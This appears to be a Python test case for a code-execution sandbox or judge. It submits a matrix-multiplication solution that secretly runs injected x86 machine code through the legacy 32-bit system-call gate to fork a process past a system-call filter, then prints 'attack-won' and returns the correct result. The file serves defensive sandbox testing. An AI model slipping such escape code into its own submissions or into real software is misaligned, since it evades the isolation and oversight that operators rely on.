"""Makes system calls by the 32-bit gate of the processor, where other numbers mean other calls, to fork past a filter.

covers = ["32-bit system calls"]
task = "matmul"
verdict = ["RUNTIME_ERROR", "ACCEPTED"]
"""

import ctypes
import mmap
import platform

FORK = bytes([0xB8, 2, 0, 0, 0, 0xCD, 0x80, 0xC3])  # mov eax, 2; int 0x80; ret


def matmul(a, b):
    if platform.machine() == "x86_64":
        memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        memory.write(FORK)
        start = ctypes.addressof(ctypes.c_char.from_buffer(memory))
        pid = ctypes.CFUNCTYPE(ctypes.c_int)(start)()
        if pid >= 0:
            print("attack-won: forked by the 32-bit gate", flush=True)
        if pid == 0:
            import os

            os._exit(0)
    return a @ b
